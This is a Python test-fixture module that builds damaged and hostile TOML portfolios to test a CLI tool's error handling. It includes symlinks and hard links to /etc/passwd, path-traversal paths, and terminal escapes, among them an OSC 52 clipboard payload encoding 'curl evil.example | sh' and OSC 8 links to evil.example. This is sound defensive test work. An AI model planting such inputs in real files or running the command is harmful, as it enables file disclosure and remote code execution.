"""Broken and malicious portfolios, each built in code from the demo.

Every :class:`Case` takes a fresh copy of the demo portfolio and damages it in
one way a real folder can be damaged (a bad edit, a bad disk, a bad actor),
and says what the command line must answer: ``check``/``status``/``export``
exit codes per the contract (0 clean, 1 findings, 2 unreadable) and what
``mark`` does to the municipality the damage is in. Built in code rather
than committed, so the odd bytes (NUL, invalid UTF-8, 6 MB strings,
symlinks, FIFOs) never pass through git or an editor.
"""

from __future__ import annotations

import datetime as dt
import os
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from support import typed_demo
from wizard import store
from wizard.store import history

GBG = "cities/1480-goteborg.toml"
STHLM = "cities/0180-stockholm.toml"
COMPANY = "huskurage.toml"
SECRET = "/etc/passwd"  # what a hostile logo path tries to smuggle into a sign

UNREADABLE, FINDINGS, CLEAN = 2, 1, 0
# Clear the screen, set the window title, turn the text red, ring the bell: as TOML escapes, and raw.
ESCAPES = "\\u001b[2J\\u001b]0;pwned\\u0007\\u001b[31m\\u009b31m"
ESCAPES_RAW = "\x1b[2J\x1b[31m"


@dataclass(frozen=True)
class Case:
    """One damaged portfolio and the answers it must get.

    ``mark`` reads only the municipality it changes (that keeps it fast), so
    damage elsewhere, e.g. in the company file, does not stop it: it then
    succeeds and must change that one file alone.
    """

    name: str
    build: Callable[[Path], None]
    check: int  # exit code of `check` (and of `export`, which refuses on error findings)
    names: str = ""  # the file the message must name, for an unreadable portfolio
    mark_city: str = "1480"  # the municipality `mark` is asked to change
    mark: int = UNREADABLE  # exit code of `mark`

    @property
    def status_code(self) -> int:
        """`status` shows findings and still succeeds; only an unreadable portfolio stops it."""
        return UNREADABLE if self.check == UNREADABLE else CLEAN

    @property
    def export_code(self) -> int:
        """`export` refuses on error findings (1), like `check` reports them."""
        return self.check


def make_demo(root: Path) -> Path:
    """The demo without its property register (support.typed_demo): the cases damage the company and city files."""
    store.init(root, typed_demo())
    return root


# ------------------------------------------------------------------ small editing tools


def _text(root: Path, rel: str) -> str:
    return (root / rel).read_text(encoding="utf-8")


def _write(root: Path, rel: str, data: str | bytes) -> None:
    path = root / rel
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _set_line(rel: str, key: str, value: str) -> Callable[[Path], None]:
    """Replace the top-level ``key = ...`` line of a file (raw TOML on the right)."""

    def build(root: Path) -> None:
        text = _text(root, rel)
        new, n = re.subn(rf"(?m)^{re.escape(key)} = .*$", lambda _: f"{key} = {value}", text, count=1)
        assert n == 1, (rel, key)
        _write(root, rel, new)

    return build


def _replace(rel: str, old: str, new: str | bytes) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        raw = (root / rel).read_bytes()
        old_b = old.encode("utf-8")
        assert old_b in raw, (rel, old)
        _write(root, rel, raw.replace(old_b, new.encode("utf-8") if isinstance(new, str) else new, 1))

    return build


def _append(rel: str, text: str) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        _write(root, rel, _text(root, rel) + text)

    return build


def _all(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        for step in steps:
            step(root)

    return build


def _remove(rel: str) -> Callable[[Path], None]:
    return lambda root: (root / rel).unlink()


def _folder_instead(rel: str) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        (root / rel).unlink()
        (root / rel).mkdir()
        (root / rel / "inside.toml").write_text('schema = 1\ncode = "1480"\n', encoding="utf-8")

    return build


def _symlink_instead(rel: str, target: str) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        (root / rel).unlink()
        os.symlink(target, root / rel)

    return build


def _fifo_instead(rel: str) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        (root / rel).unlink()
        os.mkfifo(root / rel)

    return build


def _sign_logos(value: str) -> Callable[[Path], None]:
    """Göteborg's sign gets ``logos = <value>`` in place of the demo's own list (one key, never two)."""

    def build(root: Path) -> None:
        text = _text(root, GBG)
        assert re.search(r"^logos = .*$", text, flags=re.M), "the demo's Göteborg sign has a logos line"
        _write(root, GBG, re.sub(r"^logos = .*$", lambda _: f"logos = {value}", text, count=1, flags=re.M).encode("utf-8"))

    return build


def _logos(*paths: str) -> Callable[[Path], None]:
    """Göteborg's sign shows ``paths``, each with a recorded permission: whatever check finds is the path's doing."""
    quoted = [_quoted(p) for p in paths]
    permissions = "".join(f'\n[sign.permissions.{q}]\napproved_by = "Polisen"\napproved_on = 2026-01-15\n' for q in quoted)
    return _all(_sign_logos(f"[{', '.join(quoted)}]"), _append(GBG, permissions))


def _quoted(path: str) -> str:
    return '"' + path.replace("\\", "\\\\") + '"'


def _truncated_in_a_string(root: Path) -> None:
    """The file cut off inside a quoted text, as a full disk or a killed copy leaves it."""
    raw = (root / GBG).read_bytes()
    _write(root, GBG, raw[: raw.index(b'organisation = "') + 20])


def _logo_symlink(root: Path) -> None:
    os.symlink(SECRET, root / "logos" / "polisen.png")
    _logos("logos/polisen.png")(root)


def _logo_folder_symlink(root: Path) -> None:
    os.symlink("/etc", root / "logos" / "etc")
    _logos("logos/etc/passwd.png")(root)


def _deep(depth: int) -> str:
    return "[" * depth + "1" + "]" * depth


def _duplicate_city(root: Path) -> None:
    _write(root, "cities/1480-gbg.toml", _text(root, GBG).replace("Göteborg", "Gbg"))


def _unknown_city(root: Path) -> None:
    text = _text(root, GBG).replace('code = "1480"', 'code = "9999"').replace("Göteborg", "Atlantis")
    _write(root, "cities/9999-atlantis.toml", text)


def _traversing_code(root: Path) -> None:
    text = _text(root, GBG).replace('code = "1480"', 'code = "../../../../tmp/huskurage-pwned"')
    _write(root, "cities/1481-x.toml", text)


def _company_folder(root: Path) -> None:
    (root / COMPANY).unlink()
    (root / COMPANY).mkdir()


def _cities_file(root: Path) -> None:
    for p in (root / "cities").iterdir():
        p.unlink()
    (root / "cities").rmdir()
    (root / "cities").write_text("schema = 1\n", encoding="utf-8")


def _cities_symlink(root: Path) -> None:
    real = root.parent / (root.name + "-elsewhere")
    os.rename(root / "cities", real)
    os.symlink(real, root / "cities")


def _partners_text(root: Path) -> None:
    text = re.sub(r"(?s)\[\[partners\]\].*?(?=\[sign\])", "", _text(root, GBG))
    _write(root, GBG, text.replace("signs_up = 210\n", 'signs_up = 210\npartners = "Polisen"\n'))


def _zoned_history(root: Path) -> None:
    later = '\n[[history]]\nat = 2026-06-13T15:25:00+02:00\nfield = "signs_up"\nold = "200"\nnew = "210"\n'
    _append(GBG, later)(root)


def _many_partners(root: Path) -> None:
    block = '\n[[partners]]\nkind = "other"\norganisation = "Förening {n}"\nphone = "08-46 500 4{m:02d}"\n'
    _append(GBG, "".join(block.format(n=n, m=n % 100) for n in range(5000)))(root)


def _history(rows: int) -> Callable[[Path], None]:
    """``rows`` more history rows in Göteborg, in time order after the demo's own."""

    def build(root: Path) -> None:
        start = dt.datetime(2026, 7, 1, 8, 0)
        block = '\n[[history]]\nat = {at}\nfield = "signs_up"\nold = "{n}"\nnew = "{m}"\n'
        text = "".join(block.format(at=(start + dt.timedelta(minutes=n)).isoformat(), n=n, m=n + 1) for n in range(rows))
        _append(GBG, text)(root)

    return build


def _near_the_size_limit(root: Path) -> None:
    """Göteborg a few bytes under the size the loader reads: one more history row would pass it."""
    size = (root / GBG).stat().st_size
    _append(GBG, "# " + "x" * (store.MAX_FILE_BYTES - size - 40) + "\n")(root)


def _mixed_line_endings(root: Path) -> None:
    """Every other line of Göteborg ends with CRLF, as after two people on two systems edited it."""
    lines = _text(root, GBG).split("\n")
    _write(root, GBG, "".join(line + ("\r\n" if i % 2 else "\n") for i, line in enumerate(lines[:-1])))


def _history_folder(kind: str) -> Callable[[Path], None]:
    """Göteborg at the history cap, so a mark moves rows to ``history/``, which is not a folder of the portfolio."""

    def build(root: Path) -> None:
        _history(history.CAP)(root)
        if kind == "symlink":
            real = root.parent / (root.name + "-history-elsewhere")
            real.mkdir()
            os.symlink(real, root / history.HISTORY_DIR)
        else:
            (root / history.HISTORY_DIR).write_text("mine\n", encoding="utf-8")

    return build


# ------------------------------------------------------------------ the corpus

CASES: list[Case] = [
    # --- not TOML at all, or not text
    Case("invalid toml in the company file", _replace(COMPANY, "[company]", "[company\n"), UNREADABLE, COMPANY, mark=CLEAN),
    Case("invalid toml in a city", _replace(GBG, 'name = "Göteborg"', 'name = "Göteborg'), UNREADABLE, GBG),
    Case("key without a value", _append(GBG, "\nsigns_up =\n"), UNREADABLE, GBG),
    Case("a key twice", _replace(GBG, "entrances = 210\n", "entrances = 210\napartments = 5\n"), UNREADABLE, GBG),
    Case("invalid utf-8", _replace(GBG, "Göteborg", b"G\xf6teborg"), UNREADABLE, GBG),
    Case("utf-16 with a byte order mark", lambda r: _write(r, GBG, _text(r, GBG).encode("utf-16")), UNREADABLE, GBG),
    Case("nul bytes", _replace(GBG, "apartments", b"apart\x00ments"), UNREADABLE, GBG),
    Case("binary garbage", lambda r: _write(r, GBG, bytes(range(256)) * 64), UNREADABLE, GBG),
    Case("truncated in the middle", _truncated_in_a_string, UNREADABLE, GBG),
    Case("an invalid date", _replace(GBG, "2026-09-14", "2026-02-30"), UNREADABLE, GBG),
    Case("a number beyond python's digit limit", _set_line(GBG, "apartments", "1" * 5000), UNREADABLE, GBG),
    Case("deeply nested arrays", _append(GBG, f"\nnested = {_deep(100_000)}\n"), UNREADABLE, GBG),
    # --- TOML, but not what the program expects
    Case("text where a number belongs", _set_line(GBG, "apartments", '"många"'), UNREADABLE, GBG),
    Case("a number as the code", _set_line(GBG, "code", "1480"), UNREADABLE, GBG),
    Case("a quoted schema", _set_line(GBG, "schema", '"1"'), UNREADABLE, GBG),
    Case("no schema", _replace(GBG, "schema = 1\n", ""), UNREADABLE, GBG),
    Case("partners as a text", _partners_text, UNREADABLE, GBG),
    Case("a table where text belongs", _replace(GBG, 'organisation = "Polisen, lokalpolisområde Centrum"', "organisation = { a = 1 }"), UNREADABLE, GBG),
    Case("a list of numbers for progress", _replace(GBG, "[progress.fit_resources]\nstatus = \"done\"\ndate = 2026-03-16\n", "[progress]\nfit_resources = [1, 2]\n"), UNREADABLE, GBG),
    Case("a date where a time stamp belongs", _replace(GBG, "at = 2026-06-12T15:20:00", "at = 2026-06-12"), UNREADABLE, GBG),
    Case("a time where a date belongs", _replace(GBG, "last_contact = 2026-09-14", "last_contact = 10:30:00"), UNREADABLE, GBG),
    Case("a time stamp without `at`", _replace(GBG, "at = 2026-06-12T15:20:00\n", ""), UNREADABLE, GBG),
    Case("company as an array of tables", _replace(COMPANY, "[company]", "[[company]]"), UNREADABLE, COMPANY, mark=CLEAN),
    Case("deeply nested arrays in a known key", _sign_logos(_deep(500)), UNREADABLE, GBG),
    Case("a schema from the future", _set_line(COMPANY, "schema", "2"), UNREADABLE, COMPANY, mark=CLEAN),
    Case("a city from the future", _set_line(GBG, "schema", "99999999999999999999"), UNREADABLE, GBG),
    # --- loads, but the values are wrong: findings, never a crash
    Case("negative numbers", _all(_set_line(GBG, "apartments", "-3100"), _set_line(GBG, "entrances", "-1"), _set_line(GBG, "staff_hours_per_week", "-8.5")), FINDINGS, mark=CLEAN),
    Case("astronomic numbers", _all(_set_line(GBG, "apartments", "1" + "0" * 400), _set_line(GBG, "entrances", "1" + "0" * 401), _set_line(GBG, "signs_up", "1" + "0" * 400)), UNREADABLE, GBG),
    Case("infinite and not-a-number", _all(_set_line(GBG, "staff_hours_per_week", "1e400"), _set_line(GBG, "apartments", "nan"), _set_line(GBG, "entrances", "inf")), UNREADABLE, GBG),
    Case("astronomic sizing", _all(_replace(COMPANY, "reports_per_1000_apartments = 4.0", "reports_per_1000_apartments = 1e308"), _replace(COMPANY, "working_weeks = 46", "working_weeks = -1")), FINDINGS, mark=CLEAN),
    Case("a cadence of 100000 months", _replace(COMPANY, "sign_inspection = 6", "sign_inspection = 100000"), FINDINGS, mark=CLEAN),
    Case("a cadence of 1e300 months", _replace(COMPANY, "sign_inspection = 6", "sign_inspection = 1e300"), FINDINGS, mark=CLEAN),
    Case("an astronomic share of staff trained", _replace(GBG, "staff = 15\ntrained = 13", "staff = 1\ntrained = 1e308"), FINDINGS, mark=CLEAN),
    Case("a huge report count", _replace(GBG, "2026-Q3 = 2", "2026-Q3 = " + "9" * 300), UNREADABLE, GBG),
    Case("the largest 64-bit numbers", _all(_set_line(GBG, "apartments", str(2**63 - 1)), _set_line(GBG, "signs_up", str(-(2**63)))), FINDINGS, mark=CLEAN),
    Case("a 6 MB string", _set_line(GBG, "name", '"' + "x" * (6 * 1024 * 1024) + '"'), UNREADABLE, GBG),
    Case("a 2 MB note", _replace(GBG, 'note = "Fastighetsskötarna återstår."', 'note = "' + "Ö" * (1024 * 1024) + '"'), CLEAN, mark=CLEAN),
    Case("5000 partners", _many_partners, CLEAN, mark=CLEAN),
    Case("time stamps with and without a zone", _zoned_history, CLEAN, mark=CLEAN),
    Case("terminal escapes in a name", _set_line(GBG, "name", f'"{ESCAPES}Göteborg"'), CLEAN, mark=CLEAN),
    Case("terminal escapes in a note", _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{ESCAPES}"'), CLEAN, mark=CLEAN),
    Case("terminal escapes in a finding", _replace(GBG, 'phone = "114 14"', f'phone = "{ESCAPES}"'), FINDINGS, mark=CLEAN),
    Case("terminal escapes in a broken file", _replace(GBG, 'name = "Göteborg"', f'name = "Göteborg"\n{ESCAPES_RAW} = 1'), UNREADABLE, GBG),
    Case("terminal escapes in a wrong type", _sign_logos(f'[1]\n"{ESCAPES}" = 1'), UNREADABLE, GBG),
    # --- municipalities
    Case("two files for one municipality", _duplicate_city, FINDINGS),
    Case("an unknown municipality", _unknown_city, FINDINGS, mark_city="9999"),
    Case("a code that climbs out of the export folder", _traversing_code, UNREADABLE, "cities/1481-x.toml", mark_city="1481"),
    Case("a code that disagrees with the file name", _replace(STHLM, 'code = "0180"', 'code = "0380"'), FINDINGS, mark_city="0180"),
    # --- files that are not files
    Case("an empty company file", lambda r: _write(r, COMPANY, b""), UNREADABLE, COMPANY, mark=CLEAN),
    Case("a company file of blank lines", lambda r: _write(r, COMPANY, "\n\n# tom\n"), UNREADABLE, COMPANY, mark=CLEAN),
    Case("no company file", _remove(COMPANY), UNREADABLE, COMPANY),
    Case("a folder for the company file", _company_folder, UNREADABLE, COMPANY, mark=CLEAN),
    Case("an empty city file", lambda r: _write(r, GBG, b""), UNREADABLE, GBG),
    Case("a folder where a city file should be", _folder_instead(GBG), UNREADABLE, GBG),
    Case("a symlink to /etc/passwd as a city", _symlink_instead(GBG, SECRET), UNREADABLE, GBG),
    Case("a symlink to another city", _symlink_instead(GBG, "0180-stockholm.toml"), UNREADABLE, GBG),
    Case("a dangling symlink as a city", _symlink_instead(GBG, "/nonexistent/1480.toml"), UNREADABLE, GBG),
    Case("a symlink as the company file", _symlink_instead(COMPANY, SECRET), UNREADABLE, COMPANY),
    Case("a fifo where a city file should be", _fifo_instead(GBG), UNREADABLE, GBG),
    Case("a file where the cities folder should be", _cities_file, UNREADABLE, "cities"),
    Case("a symlinked cities folder", _cities_symlink, UNREADABLE, "cities"),
    # --- logos that try to leave the portfolio
    Case("a logo at an absolute path", _logos(SECRET), FINDINGS, mark=CLEAN),
    Case("a logo climbing out with ..", _logos("logos/../../../../../../etc/passwd"), FINDINGS, mark=CLEAN),
    Case("a logo with windows separators", _logos("logos\\..\\..\\..\\..\\etc\\passwd"), FINDINGS, mark=CLEAN),
    Case("a logo that is a symlink to /etc/passwd", _logo_symlink, CLEAN, mark=CLEAN),
    Case("a logo behind a symlinked folder", _logo_folder_symlink, CLEAN, mark=CLEAN),
    # --- saves that must stay fast, readable and as the user wrote them
    Case("30000 history rows", _history(30_000), CLEAN, mark=CLEAN),
    Case("a city a few bytes under the size limit", _near_the_size_limit, CLEAN, mark=UNREADABLE),
    Case("mixed line endings", _mixed_line_endings, CLEAN, mark=CLEAN),
    Case("a symlinked history folder", _history_folder("symlink"), CLEAN, mark=UNREADABLE),
    Case("a file where the history folder should be", _history_folder("file"), CLEAN, mark=UNREADABLE),
]



# ------------------------------------------------------------------ text no terminal may obey (issue 17, classes 0 and 8)

OSC = "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b]2;pwned\\u0007"  # clipboard, window title
BIDI = "\\u202egpj.exe\\u202c\\u2066x\\u2069\\u200f"  # an override, an isolate, a mark
C1_RAW = "\u009b31m\u0085"  # the 8-bit CSI and NEL, written as they are (TOML allows them unescaped)


def _company_name(value: str) -> Callable[[Path], None]:
    return _replace(COMPANY, 'name = "Demobostäder AB"', f'name = "{value}Demobostäder AB"')


def _in_partner(value: str) -> Callable[[Path], None]:
    return _replace(GBG, 'organisation = "Polisen, lokalpolisområde Centrum"', f'organisation = "{value}Polisen"')


def _in_note(value: str) -> Callable[[Path], None]:
    return _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{value}"')


def _city_named_file(raw_name: bytes, text_from: str = GBG, damage: bytes = b"") -> Callable[[Path], None]:
    """Another file for a city, its name raw bytes (not UTF-8, escapes, a newline)."""

    def build(root: Path) -> None:
        data = (root / text_from).read_bytes() + damage
        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
            f.write(data)

    return build


def _renamed_raw(rel: str, raw_name: bytes, damage: bytes = b"") -> Callable[[Path], None]:
    def build(root: Path) -> None:
        data = (root / rel).read_bytes()
        (root / rel).unlink()
        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
            f.write(data + damage)

    return build


CASES += [
    Case("osc 52 and osc 2 in the company name", _company_name(OSC), CLEAN, mark=CLEAN),
    Case("bidi controls in names, partners and notes", _all(
        _company_name(BIDI),
        _in_partner(BIDI),
        _in_note(BIDI),
    ), CLEAN, mark=CLEAN),
    Case("raw c1 controls in a name and a note", _all(
        _company_name(C1_RAW),
        _in_note(C1_RAW),
    ), CLEAN, mark=CLEAN),
    Case("a city file named with a raw 0x9b byte", _city_named_file(b"1480-\x9b\x1b]2;x.toml"), FINDINGS),
    Case("a city file named with a newline", _city_named_file(b"1480-a\nb.toml"), FINDINGS),
    Case("an unreadable city file named with a raw 0x9b byte", _renamed_raw(STHLM, b"0180-\x9b.toml", b"\n[broken\n"),
         UNREADABLE, "cities/0180-\\x9b.toml", mark_city="0180"),
]


# ------------------------------------------------------------------ files from outside, without a symlink (issue 17, class 2)


def _link(src: Path | str, dst: Path) -> None:
    """A hard link, also where the program runs without ``os.link`` (``HUSKURAGE_WITHOUT=link``): ``ln`` makes it."""
    if hasattr(os, "link"):
        os.link(src, dst)
    else:
        import subprocess

        done = subprocess.run(["ln", str(src), str(dst)], capture_output=True)
        if done.returncode:
            raise OSError(done.stderr.decode(errors="replace"))


def _hard_link_outside(rel: str, secret: bool = True) -> Callable[[Path], None]:
    """``rel`` made a second name of a file outside the portfolio: /etc/passwd where the system allows the link,
    else a copy of it beside the portfolio (a hard link needs one file system)."""

    def build(root: Path) -> None:
        outside = root.parent / (root.name + "-outside")
        if secret:
            try:
                _link(SECRET, outside)
            except OSError:
                outside.write_bytes(Path(SECRET).read_bytes())
        else:
            os.replace(root / rel, outside)
        if (root / rel).exists():
            (root / rel).unlink()
        _link(outside, root / rel)

    return build


def _logo_hard_link(root: Path) -> None:
    _hard_link_outside("logos/polisen.png")(root)
    _logos("logos/polisen.png")(root)


CASES += [
    Case("a logo that is a hard link to /etc/passwd", _logo_hard_link, CLEAN, mark=CLEAN),
    Case("a city file with a second name outside the portfolio", _hard_link_outside(GBG, secret=False), UNREADABLE, GBG),
    Case("a company file that is a hard link to /etc/passwd", _hard_link_outside(COMPANY), UNREADABLE, COMPANY, mark=CLEAN),
]

CASES += [
    Case("a decimal schema", _set_line(GBG, "schema", "1.0"), UNREADABLE, GBG),  # class 11: "must be a whole number"
]

_CALENDAR_ENDS = '\n[[history]]\nat = 9999-12-31T23:59:59-14:00\nfield = "signs_up"\nold = "1"\nnew = "2"\n' \
                 '\n[[history]]\nat = 0001-01-01T00:00:00+14:00\nfield = "signs_up"\nold = "2"\nnew = "3"\n'
CASES += [  # class 5: every date TOML allows is a finding with its place, and the schedule skips what it cannot date
    Case("a done item on the calendar's last day", _replace(GBG, "[progress.place_signs]\nstatus = \"done\"\ndate = 2026-06-12",
                                                           "[progress.place_signs]\nstatus = \"done\"\ndate = 9999-12-31"), FINDINGS, mark=CLEAN),
    Case("dates of year 1 and 9999 and offsets of 14 hours", _all(
        _replace(GBG, "last_contact = 2026-09-14", "last_contact = 0001-01-01"),
        _replace(COMPANY, "decision_date = 2026-03-02", "decision_date = 9999-12-31"),
        _append(GBG, _CALENDAR_ENDS),
    ), FINDINGS, mark=CLEAN),
]


# ------------------------------------------------------------------ variants of each class, beyond the attacker's examples

# Class 0/8, other routes and other sequences: an OSC 8 hyperlink and a DCS ended by ST (ESC \), the 8-bit OSC,
# DCS and ST written raw, Rich markup that would make a link or a click if it were read as markup, and escapes in
# the keys and rows a finding or a history names (not only in values).
OSC8_DCS = "\\u001b]8;;https://evil.example/\\u001b\\\\Klicka\\u001b]8;;\\u001b\\\\\\u001bP+q544e\\u001b\\\\"
C1_STRINGS = "\u009d2;pwned\u009c\u0090+q\u009c"  # OSC, ST, DCS, ST: as they are, TOML allows them unescaped
MARKUP = "[link=https://evil.example/]Klicka[/link][@click=app.quit]Avsluta[/]"
KEY_ESCAPE = '"\\u001b]2;pwned\\u0007\\u202e"'

CASES += [
    Case("an osc 8 link and a dcs in a city's name", _set_line(GBG, "name", f'"{OSC8_DCS}Göteborg"'), CLEAN, mark=CLEAN),
    Case("raw 8-bit osc, dcs and st in a partner and a note", _all(
        _in_partner(C1_STRINGS),
        _in_note(C1_STRINGS),
    ), CLEAN, mark=CLEAN),
    Case("markup that would make a link or a click", _all(
        _company_name(MARKUP),
        _set_line(GBG, "name", f'"{MARKUP}Göteborg"'),
        _in_note(MARKUP),
    ), CLEAN, mark=CLEAN),
    Case("escapes in the keys a finding names", _all(
        _replace(GBG, "[training.caretaker]", f"[training.{KEY_ESCAPE}]"),
        _append(GBG, f'\n[progress.{KEY_ESCAPE}]\nstatus = "done"\ndate = 2026-01-01\n'),
        _replace(COMPANY, "nki_survey = 12", f"{KEY_ESCAPE} = 12"),
    ), FINDINGS, mark=CLEAN),
    Case("escapes in a status and a partner's kind", _all(
        _replace(GBG, '[progress.fit_resources]\nstatus = "done"', f"[progress.fit_resources]\nstatus = {KEY_ESCAPE}"),
        _replace(GBG, 'kind = "police"', f"kind = {KEY_ESCAPE}"),
    ), FINDINGS, mark=CLEAN),
    Case("escapes in a history row and a key nobody knows", _append(
        GBG, f'\n{KEY_ESCAPE} = 1\n\n[[history]]\nat = 2026-06-13T15:25:00\nfield = {KEY_ESCAPE}\nold = "\\u009b2J"\nnew = {KEY_ESCAPE}\n',
    ), CLEAN, mark=CLEAN),
    Case("a city file named with osc 52 and a bidi override", _city_named_file(b"1480-\x1b]52;c;eA==\x07\xe2\x80\xae.toml"), FINDINGS),
]


def _logo_fifo(root: Path) -> None:
    os.mkfifo(root / "logos" / "polisen.png")  # nobody writes to it: reading it would wait for ever
    _logos("logos/polisen.png")(root)


def _logo_folder(root: Path) -> None:
    (root / "logos" / "polisen.png").mkdir()
    _logos("logos/polisen.png")(root)


def _logos_folder_symlink(root: Path) -> None:
    for p in (root / "logos").iterdir():
        p.unlink()
    (root / "logos").rmdir()
    os.symlink("/etc", root / "logos")
    _logos("logos/passwd")(root)


def _logo_second_name_inside(root: Path) -> None:
    (root / "logos" / "riktig.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 16)
    _link(root / "logos" / "riktig.png", root / "logos" / "polisen.png")
    _logos("logos/polisen.png")(root)


def _city_second_name_inside(root: Path) -> None:
    _link(root / STHLM, root / "cities" / "0380-kopia.toml")


CASES += [  # class 2, beyond the hard link to /etc/passwd: what is not a file, a link one folder up, two names inside
    Case("a logo that is a fifo", _logo_fifo, CLEAN, mark=CLEAN),
    Case("a logo that is a folder", _logo_folder, CLEAN, mark=CLEAN),
    Case("a logos folder that is a symlink to /etc", _logos_folder_symlink, CLEAN, mark=CLEAN),
    Case("a logo with a second name inside the portfolio", _logo_second_name_inside, CLEAN, mark=CLEAN),
    Case("a city file with a second name inside the portfolio", _city_second_name_inside, UNREADABLE, STHLM, mark_city="0180"),
]

_LOCAL_ENDS = '\n[[history]]\nat = 9999-12-31T23:59:59.999999\nfield = "signs_up"\nold = "1"\nnew = "2"\n' \
              '\n[[history]]\nat = 0001-01-01T00:00:00\nfield = "signs_up"\nold = "2"\nnew = "3"\n'
CASES += [  # class 5, in every other place a date goes: surveys, follow-ups, partners, the company's own items
    Case("a survey, a follow-up and a partner contact on the calendar's last day", _all(
        _replace(GBG, "[[surveys]]\ndate = 2025-09-22", "[[surveys]]\ndate = 9999-12-31"),
        _append(GBG, "\n[follow_ups]\nsign_inspection = 9999-12-31\nnumber_check = 0001-01-01\n"),
        _replace(GBG, "last_contact = 2026-09-14", "last_contact = 9999-12-31"),
    ), FINDINGS, mark=CLEAN),
    Case("company items and history at the calendar's ends", _all(
        _replace(COMPANY, '[progress.contact_huskurage]\nstatus = "done"\ndate = 2026-01-20',
                 '[progress.contact_huskurage]\nstatus = "done"\ndate = 0001-01-01'),
        _append(COMPANY, _CALENDAR_ENDS.replace('"signs_up"', '"name"')),
    ), FINDINGS, mark=CLEAN),
    Case("local times at the calendar's ends", _append(GBG, _LOCAL_ENDS), FINDINGS, mark=CLEAN),
    Case("report counts in the quarters of years 1 and 9999", _replace(GBG, "[reports]\n2026-Q3 = 2", "[reports]\n2026-Q3 = 2\n9999-Q4 = 1\n0001-Q1 = 1"),
         CLEAN, mark=CLEAN),
]

CASES += [  # class 11: a schema or a number of the wrong type is named as that type, never "a number, but is a number"
    Case("a schema written 1e0", _set_line(GBG, "schema", "1e0"), UNREADABLE, GBG),
    Case("a boolean schema", _set_line(GBG, "schema", "true"), UNREADABLE, GBG),
    Case("a boolean where a number belongs", _set_line(GBG, "apartments", "true"), UNREADABLE, GBG),
]

CALENDAR_TEXT = 'Hem, Bo; AB\\\\ \\"x\\"\\nnytt\\r\\u0001\\u2066slut'  # as TOML escapes: , ; \ " a line break, C0, an isolate
CASES += [  # class 8: what the calendar carries is escaped per RFC 5545, read alike by every reader (test_hostile)
    Case("commas, semicolons, backslashes and line breaks in calendar texts", _all(
        _company_name(CALENDAR_TEXT),
        _set_line(GBG, "name", f'"Göte,borg;{CALENDAR_TEXT}"'),
    ), CLEAN, mark=CLEAN),
]


def _windows_file_with_years_of_history(root: Path) -> None:
    """Göteborg saved on Windows (every line ``\\r\\n``) with more history rows than a file keeps (1,000)."""
    row = '\n[[history]]\nat = 2026-11-{day:02d}T{hour:02d}:{minute:02d}:00\nfield = "signs_up"\nold = "{n}"\nnew = "{m}"\n'
    rows = "".join(row.format(day=1 + n // 1440, hour=n // 60 % 24, minute=n % 60, n=n, m=n + 1) for n in range(1200))
    _write(root, GBG, (_text(root, GBG) + rows).replace("\n", "\r\n"))


CASES += [  # classes 4 and 9 together: such a file is marked the fast way (its rows found as rows), archived, kept \r\n
    Case("a file saved on windows with more history rows than a file keeps", _windows_file_with_years_of_history, CLEAN, mark=CLEAN),
]
